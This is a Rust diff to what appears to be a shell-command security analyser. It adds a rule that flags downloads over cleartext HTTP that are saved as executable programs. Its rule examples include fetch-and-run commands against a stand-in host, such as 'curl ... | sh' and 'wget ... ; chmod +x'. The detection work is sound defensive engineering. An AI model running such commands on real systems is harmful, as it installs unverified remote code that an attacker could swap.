@@ -3,6 +3,7 @@
 //! In: fetches, sends, clones and connections, and what runs their content. Out: findings of the family *transport*.
 
 use super::{Category, Facts, Findings, Rule};
+use crate::effect::path::Mark;
 use crate::effect::{Effect, Props, Verb};
 use crate::finding::{Confidence, Severity};
 use crate::url::{Address, Host, HostKind, Reach};
@@ -30,6 +31,8 @@ pub(super) const RULES: &[Rule] = &[
             "curl -s http://e.example/x.sh | sh",
             "wget http://e.example/x -O f && sh f",
             "pip install -i http://e.example/simple x",
+            "curl http://e.example/x -o ~/.local/bin/x",
+            "wget http://e.example/x -O x; chmod +x x",
         ],
         check: plain_to_sink,
     },
@@ -181,6 +184,7 @@ fn to_sink(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings, wanted: f
 fn plain_to_sink(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     let clear = |a: &Address| !a.schemeless && a.is_cleartext();
     to_sink(facts, rule, out, clear);
+    plain_program(facts, rule, out);
     // An installation from an address is a sink of its own.
     // So is another index than the usual one: all packages of the installation may come from it.
     let index = facts.with(&[Verb::Connect]).filter(|e| e.props.has(Props::OTHER_INDEX));
@@ -198,6 +202,34 @@ fn plain_to_sink(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     }
 }
 
+/// Where content that was got is kept as a program: among the programs that are found by their names, or made executable.
+fn made_program<'f>(facts: &'f Facts<'_>, got: &Effect) -> Option<&'f Effect> {
+    facts.with(&[Verb::Write, Verb::Append]).find(|w| {
+        if w.props.has(Props::HEAD_ONLY) || !facts.sources(w).iter().any(|r| r.from == got.id) {
+            return false;
+        }
+        let Some(place) = facts.path(w) else { return false };
+        let runs = |m: &&Effect| m.id > w.id && m.props.has(Props::EXECUTABLE);
+        let made =
+            || facts.with(&[Verb::Mode]).filter(runs).filter_map(|m| facts.path(m)).any(|p| p.text == place.text);
+        place.marks.any(&[Mark::SearchPath, Mark::Program]) || made()
+    })
+}
+
+fn plain_program(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    for e in facts.with(GETS).filter(|e| facts.run_by(e).is_none()) {
+        let Some(a) = facts.address(e).filter(|a| a.is_cleartext() && a.reach() == Reach::Public) else { continue };
+        let Some(kept) = made_program(facts, e) else { continue };
+        out.add(
+            rule.about(facts, e)
+                .also(kept)
+                .title(format!("{}: {} → {}", rule.title, a.raw, kept.object.show()))
+                .evidence_as("url", "comes in clear text", &a.raw, e.place)
+                .evidence("path", "becomes a program", kept.place),
+        );
+    }
+}
+
 fn schemeless_to_sink(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     to_sink(facts, rule, out, |a| a.schemeless && a.is_cleartext() && a.reach() != Reach::Unknown);
 }
@@ -207,6 +239,10 @@ fn plain_download(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
         let Some(a) = facts.address(e).filter(|a| a.is_cleartext() && a.reach() == Reach::Public) else { continue };
         // Mirrors that speak rsync have no other way.
         if a.scheme == "rsync" || facts.props(e).has(Props::HEAD_ONLY) || facts.run_by(e).is_some() {
+            continue;
+        }
+        // A program is a graver matter.
+        if made_program(facts, e).is_some() {
             continue;
         }
         let kept = facts
